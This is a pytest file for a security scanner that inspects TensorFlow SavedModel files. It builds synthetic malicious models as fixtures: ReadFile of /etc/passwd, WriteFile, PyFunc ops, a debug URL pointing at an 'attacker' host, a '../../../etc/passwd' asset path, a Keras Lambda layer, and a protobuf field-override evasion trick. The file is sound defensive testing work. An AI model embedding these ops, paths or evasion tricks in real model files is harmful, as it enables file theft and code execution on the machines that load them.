"""SavedModel op checks on ``saved_model.pb`` files built with TensorFlow's own message classes.

TensorFlow is too big for CI; the ``tensorboard`` package ships the same protobuf definitions
(``GraphDef``, ``NodeDef``, ``FunctionDef``, ``MetaGraphDef``...), so the fixtures are real
messages serialised by the protobuf library. ``SavedModel`` itself (``{1: schema version,
2: repeated MetaGraphDef}``) is not shipped and is written field by field.
"""

from __future__ import annotations

import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aispm.analysis.artifact_report import FormatResult, Verdict
from aispm.analysis.tf_savedmodel import analyze_saved_model

pb = pytest.importorskip("tensorboard.compat.proto.meta_graph_pb2")
from tensorboard.compat.proto import (  # noqa: E402
    attr_value_pb2,
    function_pb2,
    graph_pb2,
    meta_graph_pb2,
    node_def_pb2,
    op_def_pb2,
    saved_object_graph_pb2,
    tensor_pb2,
    types_pb2,
)


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
        n >>= 7
        if not n:
            return bytes(out)


def saved_model(*meta_graphs: meta_graph_pb2.MetaGraphDef) -> bytes:
    """``SavedModel{saved_model_schema_version: 1, meta_graphs: [...]}`` on the wire."""
    out = b"\x08\x01"
    for mg in meta_graphs:
        body = mg.SerializeToString()
        out += b"\x12" + _varint(len(body)) + body
    return out


def node(
    name: str, op: str, inputs: tuple[str, ...] = (), **attrs: attr_value_pb2.AttrValue
) -> node_def_pb2.NodeDef:
    n = node_def_pb2.NodeDef(name=name, op=op, input=list(inputs))
    for key, value in attrs.items():
        n.attr[key].CopyFrom(value)
    return n


def s_attr(value: str) -> attr_value_pb2.AttrValue:
    return attr_value_pb2.AttrValue(s=value.encode())


def string_const(name: str, value: str) -> node_def_pb2.NodeDef:
    tensor = tensor_pb2.TensorProto(dtype=types_pb2.DT_STRING, string_val=[value.encode()])
    return node(name, "Const", value=attr_value_pb2.AttrValue(tensor=tensor),
                dtype=attr_value_pb2.AttrValue(type=types_pb2.DT_STRING))  # fmt: skip


def function(name: str, nodes: list[node_def_pb2.NodeDef]) -> function_pb2.FunctionDef:
    return function_pb2.FunctionDef(signature=op_def_pb2.OpDef(name=name), node_def=nodes)


def keras_dense_model(
    extra_graph: list[node_def_pb2.NodeDef] | None = None,
    serving_extra: list[node_def_pb2.NodeDef] | None = None,
    keras_layers: list[dict[str, object]] | None = None,
    assets: list[str] | None = None,
) -> meta_graph_pb2.MetaGraphDef:
    """What ``tf.saved_model.save`` writes for a one-layer Keras model (names as TF 2.16 gives them)."""
    graph_nodes = [
        node("serving_default_input_1", "Placeholder"),
        node("dense/kernel", "VarHandleOp"),
        node("dense/bias", "VarHandleOp"),
        node("saver_filename", "Placeholder"),
        node("NoOp", "NoOp"),
        node("Const", "Const"),
        node(
            "StatefulPartitionedCall", "StatefulPartitionedCall", ("serving_default_input_1", "dense/kernel")
        ),
        node(
            "StatefulPartitionedCall_1",
            "StatefulPartitionedCall",
            ("saver_filename", "dense/kernel", "Const"),
        ),
        node("StatefulPartitionedCall_2", "StatefulPartitionedCall", ("saver_filename", "dense/kernel")),
        *(extra_graph or []),
    ]
    serving = [
        node("dense/MatMul/ReadVariableOp", "ReadVariableOp"),
        node("dense/MatMul", "MatMul"),
        node("dense/BiasAdd/ReadVariableOp", "ReadVariableOp"),
        node("dense/BiasAdd", "BiasAdd"),
        node("dense/Relu", "Relu"),
        node("Identity", "Identity"),
        *(serving_extra or []),
    ]
    save = [
        node("StaticRegexFullMatch", "StaticRegexFullMatch"),
        string_const("Const", "^s3://.*"),
        string_const("Const_1", ".part"),
        string_const("Const_2", "_temp/part"),
        node("Select", "Select"),
        node("StringJoin", "StringJoin"),
        node("num_shards", "Const"),
        node("ShardedFilename/shard", "Const"),
        node("ShardedFilename", "ShardedFilename"),
        node("Read/DisableCopyOnRead", "DisableCopyOnRead"),
        node("Read/ReadVariableOp", "ReadVariableOp"),
        node("SaveV2/tensor_names", "Const"),
        node("SaveV2/shape_and_slices", "Const"),
        node("SaveV2", "SaveV2"),
        node("MergeV2Checkpoints/checkpoint_prefixes", "Pack"),
        node("MergeV2Checkpoints", "MergeV2Checkpoints"),
        node("Identity", "Identity"),
        node("NoOp", "NoOp"),
    ]
    restore = [
        node("RestoreV2/tensor_names", "Const"),
        node("RestoreV2", "RestoreV2"),
        node("AssignVariableOp", "AssignVariableOp"),
        node("NoOp_1", "NoOp"),
        node("Identity_1", "Identity"),
    ]
    library = function_pb2.FunctionDefLibrary(
        function=[
            function("__inference_serving_default_1234", serving),
            function(
                "__inference_signature_wrapper_1300", [node("PartitionedCall", "StatefulPartitionedCall")]
            ),
            function("__inference__traced_save_1400", save),
            function("__inference__traced_restore_1450", restore),
        ]
    )
    meta = meta_graph_pb2.MetaGraphDef()
    meta.meta_info_def.tags.append("serve")
    meta.meta_info_def.tensorflow_version = "2.16.1"
    meta.meta_info_def.tensorflow_git_version = "v2.16.0-rc0-18-g5bc9d26649c"
    for op in sorted({n.op for n in graph_nodes + serving + save + restore}):
        meta.meta_info_def.stripped_op_list.op.add(name=op)
    meta.graph_def.CopyFrom(graph_pb2.GraphDef(node=graph_nodes, library=library))
    meta.graph_def.versions.producer = 1645
    for filename in assets or []:
        meta.asset_file_def.add(filename=filename)
    layers = keras_layers if keras_layers is not None else [
        {"class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "relu"}}
    ]  # fmt: skip
    objects = saved_object_graph_pb2.SavedObjectGraph()
    for layer in layers:
        obj = objects.nodes.add()
        obj.user_object.identifier = "_tf_keras_layer"
        obj.user_object.metadata = json.dumps(layer)
    model = objects.nodes.add()
    model.user_object.identifier = "_tf_keras_network"
    model.user_object.metadata = json.dumps(
        {"class_name": "Functional", "name": "model", "keras_version": "2.15.0"}
    )
    meta.object_graph_def.CopyFrom(objects)
    return meta


def analyze(data: bytes, member: str | None = None) -> FormatResult:
    return analyze_saved_model(io.BytesIO(data), len(data), member)


def rules(result: FormatResult) -> list[str]:
    return [i.rule for i in result.issues]


# --- benign ---


def test_exported_keras_model_is_safe() -> None:
    data = saved_model(keras_dense_model(assets=["vocab.txt", "tokenizer/merges.txt"]))
    result = analyze(data)
    assert result.issues == ()
    facts = result.facts
    assert facts["tensorflow_version"] == "2.16.1"
    assert facts["tags"] == ["serve"]
    assert facts["meta_graphs"] == 1
    assert facts["function_count"] == 4
    assert facts["node_count"] == 9 + 6 + 1 + 18 + 5
    ops = facts["ops"]
    assert isinstance(ops, dict)
    for op in ("SaveV2", "RestoreV2", "ShardedFilename", "MergeV2Checkpoints", "StringJoin"):
        assert op in ops


def test_print_to_stderr_and_plain_debug_ops_are_fine() -> None:
    extra = [
        node("PrintV2", "PrintV2", output_stream=s_attr("stderr")),
        node("Dbg", "DebugIdentityV2"),
    ]
    assert analyze(saved_model(keras_dense_model(serving_extra=extra))).issues == ()


def test_decoys_named_like_dangerous_ops() -> None:
    extra = [
        node("ReadFile", "Identity"),  # a node *named* ReadFile
        node("x", "ReadVariableOp"),
        node("y", "Identity", note=s_attr("PyFunc WriteFile")),
        string_const("path", "/etc/passwd"),  # a string constant alone reads nothing
    ]
    assert analyze(saved_model(keras_dense_model(serving_extra=extra))).issues == ()


# --- malicious ---


def test_read_and_write_file_in_the_serving_function() -> None:
    extra = [
        string_const("path", "/etc/passwd"),
        node("ReadFile", "ReadFile", ("path",)),
        string_const("out", "/tmp/aispm-canary-tf"),
        node("WriteFile", "WriteFile", ("out", "ReadFile")),
    ]
    result = analyze(saved_model(keras_dense_model(serving_extra=extra)), "model/saved_model.pb")
    assert rules(result) == ["tf.file-io", "tf.file-io"]
    ops = {i.detail["op"] for i in result.issues}
    assert ops == {"ReadFile", "WriteFile"}
    issue = result.issues[0]
    assert (issue.verdict, str(issue.severity)) == (Verdict.MALICIOUS, "high")
    assert issue.detail["where"] == "function __inference_serving_default_1234"
    assert issue.member == "model/saved_model.pb"


def test_pyfunc_in_the_top_level_graph_is_critical() -> None:
    extra = [node("py", "PyFunc", token=s_attr("pyfunc_0")), node("eager", "EagerPyFunc")]
    result = analyze(saved_model(keras_dense_model(extra_graph=extra)))
    assert rules(result) == ["tf.py-func", "tf.py-func"]
    assert {str(i.severity) for i in result.issues} == {"critical"}
    assert result.issues[0].detail["where"] == "graph"


def test_pyfunc_inside_a_library_function() -> None:
    extra = [node("PyFuncStateless", "PyFuncStateless", token=s_attr("pyfunc_1"))]
    result = analyze(saved_model(keras_dense_model(serving_extra=extra)))
    assert rules(result) == ["tf.py-func"]


@pytest.mark.parametrize(
    ("op", "attrs", "rule"),
    [
        ("MatchingFiles", {}, "tf.file-io"),
        ("TFRecordDatasetV2", {}, "tf.file-io"),
        ("CreateSummaryFileWriter", {}, "tf.file-io"),
        ("ImmutableConst", {"memory_region_name": s_attr("/etc/shadow")}, "tf.file-io"),
        ("PrintV2", {"output_stream": s_attr("file:///tmp/aispm-canary-print")}, "tf.file-io"),
        ("RpcCall", {}, "tf.network"),
        ("DataServiceDatasetV4", {}, "tf.network"),
    ],
)
def test_other_primitives(op: str, attrs: dict[str, attr_value_pb2.AttrValue], rule: str) -> None:
    result = analyze(saved_model(keras_dense_model(serving_extra=[node("n", op, **attrs)])))
    assert rules(result) == [rule]


def test_debug_urls() -> None:
    urls = attr_value_pb2.AttrValue(list=attr_value_pb2.AttrValue.ListValue(s=[b"grpc://attacker:6064"]))
    result = analyze(
        saved_model(keras_dense_model(serving_extra=[node("d", "DebugIdentity", debug_urls=urls)]))
    )
    assert rules(result) == ["tf.network"]
    files = attr_value_pb2.AttrValue(list=attr_value_pb2.AttrValue.ListValue(s=[b"file:///tmp/dump"]))
    result = analyze(
        saved_model(keras_dense_model(serving_extra=[node("d", "DebugIdentity", debug_urls=files)]))
    )
    assert rules(result) == ["tf.file-io"]


def test_second_meta_graph_is_walked_too() -> None:
    bad = keras_dense_model(serving_extra=[node("r", "ReadFile")])
    bad.meta_info_def.ClearField("tags")
    bad.meta_info_def.tags.append("train")
    result = analyze(saved_model(keras_dense_model(), bad))
    assert rules(result) == ["tf.file-io"]
    assert result.facts["tags"] == ["serve", "train"]


def test_asset_escaping_the_assets_directory() -> None:
    result = analyze(saved_model(keras_dense_model(assets=["vocab.txt", "../../../etc/passwd"])))
    assert rules(result) == ["tf.asset-escape"]
    assert result.issues[0].detail["filename"] == "../../../etc/passwd"


def test_keras_lambda_in_the_object_graph() -> None:
    layers = [
        {"class_name": "Dense", "config": {"name": "dense", "units": 4}},
        {
            "class_name": "Lambda",
            "config": {
                "name": "lambda",
                "function": ["4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMIAAAAfABkARQAUwApAk7pAgAAAKkA", None, None],
                "function_type": "lambda",
                "module": "__main__",
                "arguments": {},
            },
        },
    ]
    result = analyze(saved_model(keras_dense_model(keras_layers=layers)))
    assert rules(result) == ["keras.lambda-layer"]


def test_keras_configs_over_the_bound_are_unscannable(monkeypatch: pytest.MonkeyPatch) -> None:
    from aispm.analysis import tf_savedmodel

    monkeypatch.setattr(tf_savedmodel, "MAX_KERAS_TOTAL", 100)
    result = analyze(saved_model(keras_dense_model()))
    assert rules(result) == ["tf.malformed"]
    assert result.issues[0].verdict is Verdict.UNSCANNABLE


# --- parser differentials: protobuf semantics, not first-match ---


def test_repeated_op_field_last_one_wins_as_in_protobuf() -> None:
    benign = node("n", "Identity").SerializeToString()
    override = node_def_pb2.NodeDef(op="ReadFile").SerializeToString()
    merged = benign + override  # what protobuf's parser reads as one NodeDef with op ReadFile
    assert node_def_pb2.NodeDef.FromString(merged).op == "ReadFile"
    graph = b"\x0a" + _varint(len(merged)) + merged
    meta = b"\x12" + _varint(len(graph)) + graph
    data = b"\x08\x01\x12" + _varint(len(meta)) + meta
    assert rules(analyze(data)) == ["tf.file-io"]
    # And the other way round: ReadFile overridden by Identity is what TensorFlow runs.
    merged = node_def_pb2.NodeDef(op="ReadFile").SerializeToString() + benign
    assert node_def_pb2.NodeDef.FromString(merged).op == "Identity"
    graph = b"\x0a" + _varint(len(merged)) + merged
    meta = b"\x12" + _varint(len(graph)) + graph
    assert analyze(b"\x08\x01\x12" + _varint(len(meta)) + meta).issues == ()


def test_unknown_fields_and_groups_are_skipped() -> None:
    body = keras_dense_model(serving_extra=[node("r", "WriteFile")]).SerializeToString()
    # An unknown varint field, an unknown group and an unknown fixed64 before the real content.
    noise = b"\xf8\x07\x05" + b"\xfb\x07" + b"\x08\x01" + b"\xfc\x07" + b"\xf9\x07" + b"\x00" * 8
    data = b"\x08\x01\x12" + _varint(len(noise + body)) + noise + body
    assert meta_graph_pb2.MetaGraphDef.FromString(noise + body).graph_def.library.function
    assert rules(analyze(data)) == ["tf.file-io"]


# --- broken input ---


def test_truncated_and_garbage_are_unscannable() -> None:
    data = saved_model(keras_dense_model(serving_extra=[node("r", "ReadFile")]))
    for cut in (1, 3, len(data) // 3, len(data) - 1):
        assert "tf.malformed" in rules(analyze(data[:cut])), cut
    assert rules(analyze(b"not a protobuf at all")) == ["tf.malformed"]
    assert rules(analyze(b"")) == ["tf.malformed"]
    assert rules(analyze(b"\x08\x01")) == ["tf.malformed"]  # no meta graph


def test_large_constants_are_skipped() -> None:
    big = tensor_pb2.TensorProto(dtype=types_pb2.DT_FLOAT, tensor_content=b"\0" * 2_000_000)
    extra = [node("weights", "Const", value=attr_value_pb2.AttrValue(tensor=big))]
    data = saved_model(keras_dense_model(extra_graph=extra))
    result = analyze(data)
    assert result.issues == ()
    assert result.facts["bytes_read"] < 300_000 < len(data)


_SAMPLE = saved_model(keras_dense_model(serving_extra=[node("r", "ReadFile")]))


@settings(max_examples=300, deadline=None)
@given(st.integers(min_value=0, max_value=len(_SAMPLE) - 1), st.binary(min_size=1, max_size=6), st.data())
def test_fuzz_mutated_saved_model(offset: int, patch: bytes, data: st.DataObject) -> None:
    mutated = bytearray(_SAMPLE)
    end = min(len(mutated), offset + len(patch))
    mutated[offset:end] = patch[: end - offset]
    cut = data.draw(st.integers(min_value=0, max_value=len(mutated)))
    result = analyze(bytes(mutated[:cut]))
    assert all(i.rule.startswith(("tf.", "keras.")) for i in result.issues)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=300))
def test_fuzz_arbitrary_bytes(data: bytes) -> None:
    assert all(i.rule.startswith(("tf.", "keras.")) for i in analyze(data).issues)
